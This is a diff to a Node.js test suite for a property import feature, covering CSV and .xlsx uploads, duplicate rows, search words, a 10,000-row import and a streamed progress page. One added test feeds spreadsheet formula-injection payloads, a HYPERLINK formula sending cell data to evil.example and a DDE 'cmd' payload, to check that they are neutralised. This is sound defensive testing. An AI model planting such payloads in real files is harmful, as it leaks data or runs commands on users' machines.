@@ -1,11 +1,14 @@
 // The property import with the committed fixtures: a real .xlsx written by
 // LibreOffice and a CSV as German Excel writes it, re-imports that update,
-// rejected rows with their numbers, broken files, and the page's three steps.
+// rejected rows with their numbers, rows of one file that name one property,
+// the search words of what was imported, 10,000 rows of an .xlsx, broken
+// files, and the page's three steps.
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
 import { startStack, repo } from './stack.mjs';
 import { newManager } from './client.mjs';
+import { xlsx } from './xlsx.mjs';
 
 const fixture = (name) => readFileSync(`${repo}/tests/fixtures/import/${name}`);
 let stack, a;
@@ -83,6 +86,25 @@ test('a row with an error is reported with its row number, not written, and down
   assert.equal((await b.fetch(res.body.rejected_url)).status, 404, 'another organisation cannot fetch it');
 });
 
+test('the rejected rows\' CSV makes every cell a spreadsheet would run as a formula plain text', async () => {
+  // Rows without a name are rejected; their other cells come back in the CSV.
+  const formulas = ['=HYPERLINK("http://evil.example/?"&A1;"Klick")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)'];
+  const csv = `Name;Street;Notes\r\n${formulas.map((f) => `;"${f.replace(/"/g, '""')}";Hinweis`).join('\r\n')}\r\n`;
+  const res = await upload(a, Buffer.from(csv), 'formeln.csv');
+  assert.equal(res.status, 200, JSON.stringify(res.body));
+  assert.equal(res.body.errors.length, formulas.length);
+  const text = await (await a.fetch(res.body.rejected_url)).text();
+  for (const f of formulas) {
+    assert.ok(text.includes(`"'${f.replace(/"/g, '""')}"`), `${f} is not neutralised in:\n${text}`);
+  }
+  // No cell of the file starts with a formula's first character.
+  for (const line of text.split('\r\n').filter(Boolean)) {
+    for (const cell of line.match(/(?:^|;)("(?:[^"]|"")*"|[^;]*)/g).map((c) => c.replace(/^;/, ''))) {
+      assert.doesNotMatch(cell.replace(/^"/, ''), /^[=+\-@\t\r]/, `a live cell: ${cell}`);
+    }
+  }
+});
+
 test('another organisation\'s reference IDs are never touched', async () => {
   const b = await newManager(stack);
   const res = await upload(b, fixture('properties-excel-de.csv'), 'export.csv');
@@ -143,4 +165,108 @@ test('the page: upload, preview with the detected mapping, a changed mapping, th
     body: new URLSearchParams({ csrf_token: d.csrf, upload: upload_, extension: '.csv' }).toString(),
   });
   assert.equal(again.status, 422, 'a kept upload is used once');
+});
+
+async function search(client, q) {
+  const res = await client.json(`/api/v1/properties?q=${encodeURIComponent(q)}&limit=200`);
+  assert.equal(res.status, 200);
+  return res.body.items.map((p) => p.name).sort();
+}
+
+test('rows of one file that name one property: as if written one after the other', async () => {
+  const e = await newManager(stack);
+  const csv = ['Referenz-ID;Name;Straße;Ort',
+    'DUP-1;Erstes Haus;;Altstadt',
+    'dup-1;Zweites Haus;;Neustadt',
+    ';Zweites Haus;;Irgendwo',
+    ';Einzeln;Weg 1;Bonn',
+    ';einzeln;WEG 1;Köln',
+    'NEU-9;Neunter;;Bonn'].join('\r\n');
+  const res = await upload(e, Buffer.from(csv), 'doppelt.csv');
+  assert.equal(res.status, 200, JSON.stringify(res.body));
+  assert.deepEqual(res.body, { created: 3, updated: 1, skipped: 2, errors: [] });
+  const p = await byReference(e);
+  assert.equal(p['DUP-1'].name, 'Zweites Haus', 'the later row of a reference ID wins');
+  assert.equal(p['DUP-1'].city, 'Neustadt');
+  assert.equal(Object.values(p).filter((x) => /^einzeln$/i.test(x.name)).length, 1);
+  assert.equal(p['NEU-9'].city, 'Bonn');
+  assert.deepEqual(await search(e, 'neustadt'), ['Zweites Haus']);
+  assert.deepEqual(await search(e, 'altstadt'), [], 'the words of what was overwritten are gone');
+  assert.deepEqual(await search(e, 'bonn'), ['Einzeln', 'Neunter']);
+});
+
+test('the search finds what was imported, and a re-import keeps its words up to date', async () => {
+  const f = await newManager(stack);
+  const first = 'Referenz-ID,Name,Straße,PLZ,Ort\nS-1,Haus Sonne,Lindenweg 1,04109,Leipzig\nS-2,Haus Mond,Ahornweg 2,01067,Dresden\n,Haus Stern,Eichenweg 3,99084,Erfurt\n';
+  assert.deepEqual((await upload(f, Buffer.from(first), 'a.csv')).body, { created: 3, updated: 0, skipped: 0, errors: [] });
+  assert.deepEqual(await search(f, 'leipzig'), ['Haus Sonne']);
+  assert.deepEqual(await search(f, 'S-2'), ['Haus Mond']);
+  assert.deepEqual(await search(f, '0410'), ['Haus Sonne']);
+  assert.deepEqual(await search(f, 'eichen'), ['Haus Stern']);
+  const star = Object.values(await byReference(f)).find((x) => x.name === 'Haus Stern');
+  assert.match(star.reference_id, /^L-\d{5}/, 'a generated reference ID');
+  assert.deepEqual(await search(f, star.reference_id), ['Haus Stern']);
+  const second = 'Referenz-ID,Name,Straße,PLZ,Ort\nS-1,Haus Sonne,Lindenweg 1,04109,Leipzig\nS-2,Haus Mond,Ahornweg 2,06108,Halle\n';
+  assert.deepEqual((await upload(f, Buffer.from(second), 'b.csv')).body, { created: 0, updated: 2, skipped: 0, errors: [] });
+  assert.deepEqual(await search(f, 'dresden'), []);
+  assert.deepEqual(await search(f, 'halle'), ['Haus Mond']);
+  assert.deepEqual(await search(f, 'haus'), ['Haus Mond', 'Haus Sonne', 'Haus Stern']);
+});
+
+test('10,000 rows of an .xlsx: every one written, found, and updated by the same file again', async () => {
+  const g = await newManager(stack);
+  const cities = [['10115', 'Berlin'], ['50667', 'Köln'], ['80331', 'München'], ['20095', 'Hamburg'], ['01067', 'Dresden']];
+  const rows = [['Referenz-ID', 'Name', 'Straße', 'PLZ', 'Ort']];
+  for (let i = 1; i <= 10000; i++) {
+    const [zip, city] = cities[i % 5];
+    rows.push([`X-${String(i).padStart(5, '0')}`, `Wohnanlage ${i}`, `Parkweg ${i % 300}`, zip, city]);
+  }
+  const file = xlsx(rows);
+  const res = await upload(g, file, 'gross.xlsx');
+  assert.equal(res.status, 200, JSON.stringify(res.body));
+  assert.deepEqual(res.body, { created: 10000, updated: 0, skipped: 0, errors: [] });
+  assert.deepEqual(await search(g, 'X-04711'), ['Wohnanlage 4711']);
+  assert.deepEqual(await search(g, 'wohnanlage 9999'), ['Wohnanlage 9999']);
+  const org = g.user.org_id;
+  assert.equal(stack.sql(`SELECT COUNT(*) FROM properties p WHERE p.org_id = ${org}
+    AND NOT EXISTS (SELECT 1 FROM property_words w WHERE w.property_id = p.id)`).trim(), '0', 'every property has its words');
+  const again = await upload(g, file, 'gross.xlsx');
+  assert.deepEqual(again.body, { created: 0, updated: 10000, skipped: 0, errors: [] });
+  assert.equal(stack.sql(`SELECT COUNT(*) FROM properties WHERE org_id = ${org}`).trim(), '10001');
+});
+
+test('the page shows the import running while it writes, then only the result', async () => {
+  const h = await newManager(stack);
+  const lines = ['Referenz-ID;Name;Ort'];
+  for (let i = 1; i <= 3000; i++) lines.push(`P-${i};Haus ${i};Halle`);
+  const preview = await h.fetch('/app/properties/import/preview', {
+    method: 'POST', headers: { Origin: stack.base },
+    body: (() => { const f = new FormData(); f.append('csrf_token', h.csrf); f.append('file', new Blob([lines.join('\r\n')]), 'viele.csv'); return f; })(),
+  });
+  const upload_ = /name="upload" value="([^"]+)"/.exec(await preview.text())[1];
+  const res = await h.fetch('/app/properties/import', {
+    method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded', Origin: stack.base },
+    body: new URLSearchParams({ csrf_token: h.csrf, upload: upload_, extension: '.csv' }).toString(),
+  });
+  assert.equal(res.status, 200);
+  assert.equal(res.headers.get('content-length'), null, 'sent as it is made');
+  // The first part arrives while the rows are still being written.
+  const reader = res.body.getReader();
+  const decoder = new TextDecoder();
+  const parts = [];
+  for (let r = await reader.read(); !r.done; r = await reader.read()) parts.push(decoder.decode(r.value, { stream: true }));
+  const html = parts.join('');
+  const running = html.indexOf('<div class="import-run" role="status">');
+  assert.ok(running > 0 && html.includes('Wird importiert', running));
+  assert.ok(!parts[0].includes('Neu angelegt'), 'the start went out before the result');
+  const bars = [...html.matchAll(/<progress max="100" value="(\d+)"/g)].map((m) => Number(m[1]));
+  assert.ok(bars.length >= 2 && bars.at(-1) === 100, `bars ${bars}`);
+  assert.deepEqual([...bars].sort((x, y) => x - y), bars, 'the bars only grow');
+  const closed = html.indexOf('</div>', html.lastIndexOf('<progress'));
+  assert.ok(closed > 0 && closed < html.indexOf('Neu angelegt'), 'the result follows the running part');
+  assert.match(html, /Neu angelegt:\s*<strong>3000<\/strong>/);
+  assert.ok(html.trimEnd().endsWith('</html>'));
+  const again = await h.fetch('/app/properties/import/preview');
+  assert.equal(again.status, 303, 'the preview\'s address reloaded leads back to the form');
+  assert.equal(again.headers.get('location'), '/app/properties/import');
 });
